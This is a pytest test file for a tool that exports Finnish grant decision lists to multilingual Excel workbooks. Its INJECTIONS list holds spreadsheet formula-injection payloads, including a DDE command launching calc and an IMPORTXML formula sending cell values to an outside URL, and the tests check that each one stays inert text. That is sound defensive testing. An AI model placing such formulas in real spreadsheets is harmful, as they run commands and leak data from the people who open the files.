"""The decision workbook as a file: order, words, formats, texts that stay texts, bytes that repeat."""

import io
import os
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from fractions import Fraction
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from locales import PSEUDO, LocalText, msg, render
from tests.support.decisions import APPROPRIATION, MADE_AT, decision
from workbooks.decision import decision_workbook
from workbooks.decision_book import CELL_LIMIT, clean, wrapped_lines
from workbooks.decision_data import DecisionData, DecisionDataError
from workbooks.decision_list import STATUS_WORDS

HEAD, FIRST = 6, 7
MADE_AT_HELSINKI = datetime.fromisoformat("2022-06-16T12:00")
INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "{=1+1}", "=IMPORTXML(CONCAT(\"http://x?v=\", CONCATENATE(A2:E2)), \"//a/a10\")", "http://example.org/", "00123",
    "1e9", "<r><t>x</t></r>", "<r></r>", "]]><x>&amp;", "\x00\x01\x0b\x1f", "\ud800 \uffff", "'=1", "%0A=1", "TRUE", "#REF!",
    " leading and trailing ", "line\r\nline\rline", "😀" * 3,
)  # fmt: skip


def read(xlsx: bytes, *, values: bool = True) -> Workbook:
    return load_workbook(io.BytesIO(xlsx), data_only=values)


def lines(book: Workbook, sheet: int, first: int, last: int) -> list[tuple[Any, ...]]:
    return list(book.worksheets[sheet].iter_rows(min_row=first, max_row=last, values_only=True))


def strings(book: Workbook) -> Iterator[str]:
    for sheet in book:
        yield sheet.title
        yield from (c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str))


@pytest.mark.parametrize(
    ("lang", "sheets"),
    [
        ("fi", ["Päätöslista", "Pisteet", "Jakoskenaario"]),
        ("sv", ["Beslutslista", "Poäng", "Fördelningsscenario"]),
        ("en", ["Decision list", "Scores", "Scenario"]),
    ],
)
def test_workbook_has_its_sheets_in_each_language(lang: str, sheets: list[str]) -> None:
    assert read(decision_workbook(decision(), lang)).sheetnames == sheets


def test_workbook_head_is_finnish() -> None:
    (head,) = lines(read(decision_workbook(decision(), "fi")), 0, HEAD, HEAD)
    assert head == (
        "Nro", "Sija", "Asianumero", "Hakija", "Y-tunnus", "Kunta", "Hanke", "Kieli", "Pisteet", "Haettu",
        "Myönnetty", "Päätös", "Perustelut",
    )  # fmt: skip


@pytest.mark.parametrize("lang", ["fi", "sv", "en"])
def test_list_shows_every_application_in_order_of_rank(lang: str) -> None:
    data = decision()
    shown = lines(read(decision_workbook(data, lang)), 0, FIRST, FIRST + 48)
    rows = sorted(data.rows, key=lambda row: (row.rank or 1000, row.case_number))
    none, no_rank = render(msg("not scored"), lang), render(msg("no rank"), lang)
    assert [line[:3] + line[9:] for line in shown] == [
        (
            number,
            row.rank or no_rank,
            row.case_number,
            row.applied,
            row.granted,
            render(STATUS_WORDS[row.status], lang),
            row.reason,
        )
        for number, row in enumerate(rows, start=1)
    ]
    assert [line[8] for line in shown] == [none if r.score is None else float(r.score) for r in rows]


def test_list_marks_shared_ranks_as_shared() -> None:
    data = decision()
    sheet = read(decision_workbook(data, "fi")).worksheets[0]
    ranks = [row.rank for row in data.rows]
    for line in range(FIRST, FIRST + 49):
        cell = sheet.cell(line, 2)
        if isinstance(cell.value, int):
            assert ("jaettu" in cell.number_format) is (ranks.count(cell.value) > 1)
    assert len({rank for rank in ranks if rank and ranks.count(rank) > 1}) > 3


def test_scores_sheet_shows_every_level_and_whether_it_counts() -> None:
    data = decision()
    shown = lines(read(decision_workbook(data, "fi")), 1, 5, 4 + len(data.scores))
    given = {(score.case_number, score.reviewer, score.criterion_name.fi): score for score in data.scores}
    assert len(shown) == len(given)
    unscored = {row.case_number for row in data.rows if row.score is None}
    for number, case, _, reviewer, criterion, weight, level, points, counted, reason in shown:
        score = given[case, reviewer, criterion]
        assert (weight, reason or "") == (score.weight, score.reason)
        assert level == (score.level if score.level is not None else "ei arviota")
        assert points == (score.weight * score.level if score.level is not None else "ei arviota")
        assert counted == ("ei" if case in unscored else "kyllä")
        assert 1 <= number <= 49


def namesakes() -> DecisionData:
    """All reviewers under one name, told apart by their ids."""
    data = decision()
    one_name = "Maija Meikäläinen"
    return replace(
        data, scores=tuple(replace(one, reviewer=one_name, reviewer_id=f"#{one.reviewer}") for one in data.scores)
    )


def test_reviewers_of_the_same_name_are_told_apart_by_their_ids() -> None:
    sheets = [read(decision_workbook(data, "fi")) for data in (decision(), namesakes())]
    scores = [[line[8] for line in lines(book, 0, FIRST, FIRST + 48)] for book in sheets]
    assert scores[0] == scores[1]
    shown = lines(sheets[1], 1, 5, 4 + len(decision().scores))
    assert {line[3] for line in shown} == {"Maija Meikäläinen"}
    assert sorted(line[8] for line in shown) == sorted(
        line[8] for line in lines(sheets[0], 1, 5, 4 + len(decision().scores))
    )


def test_reviewer_with_two_levels_for_a_criterion_is_refused() -> None:
    data = namesakes()
    with pytest.raises(DecisionDataError, match="two levels"):
        decision_workbook(replace(data, scores=(*data.scores, data.scores[0])), "fi")


def test_totals_reconcile_in_cached_values() -> None:
    data = decision()
    sheet = read(decision_workbook(data, "fi")).worksheets[0]
    assert [sheet[cell].value for cell in ("K3", "J4", "K4", "K5", "L5")] == [
        APPROPRIATION,
        data.applied,
        data.granted,
        APPROPRIATION - data.granted,
        "Summat täsmäävät",
    ]


def test_scenario_shows_every_parameter_typed() -> None:
    book = read(decision_workbook(decision(), "fi"))
    values = [line[1] for line in lines(book, 2, 6, 22)]
    assert values == [
        APPROPRIATION, decision().applied, decision().granted, decision().remaining, "2022",
        MADE_AT_HELSINKI, APPROPRIATION, 50, 2.5, 0.85, 0.855, "ei asetettu", str(2**80), "kyllä",
        MADE_AT_HELSINKI, "scipy 1.17", "mahdollinen",
    ]  # fmt: skip
    formats = [book.worksheets[2].cell(row, 2).number_format for row in (6, 15, 16)]
    assert formats == ['#,##0\\ "€"', "0\\ %", "0.00\\ %"]


def test_workbook_is_set_up_for_print_and_screen() -> None:
    for sheet, panes in zip(read(decision_workbook(decision(), "fi")), ("D7", "C5", "B6"), strict=True):
        assert sheet.freeze_panes == panes
        assert sheet.print_title_rows
        assert sheet.auto_filter.ref
        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (9, 0)
    sheet = read(decision_workbook(decision(), "fi")).worksheets[0]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet["K7"].number_format == '#,##0\\ "€"'


def test_document_properties_name_the_call_and_the_moment() -> None:
    properties = read(decision_workbook(decision(), "sv")).properties
    assert properties.title == "Beslutslista: Understöd för främjande av digitaliseringen i kommunerna 2022"
    assert properties.creator == "Finansministeriet"
    assert properties.created == MADE_AT.replace(tzinfo=None)


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_stays_text(text: str) -> None:
    data = decision(3)
    row = replace(data.rows[0], applicant=text, project=text, municipality=text, reason=text)
    data = replace(data, rows=(row, *data.rows[1:]), call_name=text, scenario_name=text, authority=text)
    scores = (replace(data.scores[0], reason=text), *data.scores[1:])
    data = replace(data, scores=scores, parameters=((msg("Project"), text),))
    sheet = read(decision_workbook(data, "fi"), values=False).worksheets[0]
    (line,) = [r for r in range(FIRST, FIRST + 3) if sheet.cell(r, 3).value == row.case_number]
    for column in (4, 6, 7, 13):
        cell = sheet.cell(line, column)
        assert (cell.data_type, cell.value, cell.hyperlink) == ("s", clean(text), None)


@settings(max_examples=40, deadline=None)
@given(st.text())
def test_any_text_leaves_a_readable_file(text: str) -> None:
    data = decision(1)
    data = replace(data, rows=(replace(data.rows[0], reason=text),), call_name=text)
    sheet = read(decision_workbook(data, "sv")).worksheets[0]
    assert (sheet.cell(FIRST, 13).value or "") == clean(text)


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    data = decision(1)
    for text in ("a b" * 20_000, "😀" * 20_000):
        row = replace(data.rows[0], reason=text)
        shown = read(decision_workbook(replace(data, rows=(row,)), "en")).worksheets[0].cell(FIRST, 13).value
        assert isinstance(shown, str)
        assert shown.endswith("[The text is longer than a cell can hold and is cut here.]")
        assert CELL_LIMIT - 2 < len(shown.encode("utf-16-le")) // 2 <= CELL_LIMIT


def test_same_data_gives_the_same_bytes_in_any_time_zone(monkeypatch: pytest.MonkeyPatch) -> None:
    data = decision()
    first = decision_workbook(data, "fi")
    monkeypatch.setenv("TZ", "Pacific/Auckland")
    time.tzset()
    try:
        elsewhere = replace(data, made_at=MADE_AT.astimezone(timezone(timedelta(hours=-5))))
        shuffled = replace(elsewhere, rows=data.rows[::-1])
        assert decision_workbook(data, "fi") == first
        assert decision_workbook(shuffled, "fi") == first
    finally:
        monkeypatch.undo()
        time.tzset()
    assert os.environ.get("TZ") != "Pacific/Auckland"


def test_pseudo_locale_leaves_no_undecorated_text_of_ours() -> None:
    data = decision()
    own = {"2022", "scipy 1.17", str(2**80), data.scenario_name}
    for row in data.rows:
        own |= {row.case_number, row.applicant, row.business_id, row.municipality, row.project, str(row.reason)}
    for score in data.scores:
        own |= {score.reviewer, score.reason}
    shown = set(strings(read(decision_workbook(data, PSEUDO)))) - own
    assert [text for text in shown if not (text.startswith("⟦") and text.endswith("⟧"))] == []
    assert len(shown) > 50


def test_workbook_without_applications_or_scores_is_whole() -> None:
    data = replace(decision(), rows=(), scores=(), parameters=(), remaining=APPROPRIATION)
    sheet = read(decision_workbook(data, "fi")).worksheets[0]
    assert (sheet["A5"].value, sheet["K4"].value, sheet["K5"].value) == ("0 hakemusta", 0, APPROPRIATION)


def test_stated_score_is_written_as_a_number() -> None:
    data = decision(5)
    case = data.rows[0].case_number
    rows = (replace(data.rows[0], score=Fraction(7, 2), score_source="stated"), *data.rows[1:])
    sheet = read(decision_workbook(replace(data, rows=rows), "fi"), values=False).worksheets[0]
    score = {sheet.cell(r, 3).value: sheet.cell(r, 9).value for r in range(FIRST, FIRST + 5)}
    assert score.pop(case) == 3.5
    assert all(str(value).startswith("=IF(SUMIFS(") for value in score.values())


def _first_row(**changes: Any) -> DecisionData:
    data = decision()
    return replace(data, rows=(replace(data.rows[0], **changes), *data.rows[1:]))


def _first_score(**changes: Any) -> DecisionData:
    data = decision()
    return replace(data, scores=(replace(data.scores[0], **changes), *data.scores[1:]))


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (decision(made_at=MADE_AT_HELSINKI), "no time zone"),
        (decision(remaining=1), "do not make the appropriation €10,000,000"),
        (decision(rows=decision().rows * 2, remaining=1), "is on the decision list twice"),
        (_first_row(status="lost"), "status lost is not known; accepted: approved, rejected"),
        (_first_row(granted=-1), "is not between 0 and the amount applied for"),
        (_first_row(applied=0, granted=1), "is not between 0 and the amount applied for"),
        (_first_row(status="dismissed", granted=1), "€1 is granted although"),
        (_first_row(score=Fraction(9, 2)), "score 4.50 is not the mean of its reviews"),
        (_first_score(case_number="VN/1"), "Case number VN/1 has scores but is not"),
        (_first_score(weight=7), "has two weights"),
        (_first_score(reviewer="X"), "is not the mean of its reviews"),
        (decision(scores=decision().scores[:1] * 2), "has two levels for criterion process_change"),
    ],
)
def test_data_that_contradicts_itself_is_refused(data: DecisionData, sentence: str) -> None:
    with pytest.raises(DecisionDataError) as refused:
        decision_workbook(data, "fi")
    assert sentence in str(refused.value)
    for lang in ("fi", "sv"):
        assert render(refused.value.message, lang) != str(refused.value)


@given(st.text("ab \n", max_size=80), st.floats(2, 60))
def test_wrapped_lines_never_hold_more_than_fits(text: str, width: float) -> None:
    room = max(int((width - 1) * 1.1), 1)
    words = text.split()
    assert wrapped_lines(text, width) >= text.count("\n") + 1
    assert wrapped_lines(text, width) * room >= sum(len(word) for word in words)


def test_criterion_names_follow_the_language() -> None:
    name = LocalText("Vaikuttavuus", "Genomslag", "Impact")
    data = decision(1)
    data = replace(data, scores=tuple(replace(score, criterion_name=name) for score in data.scores))
    assert read(decision_workbook(data, "sv")).worksheets[1]["E5"].value == "Genomslag"
    assert data.made_at.tzinfo is UTC
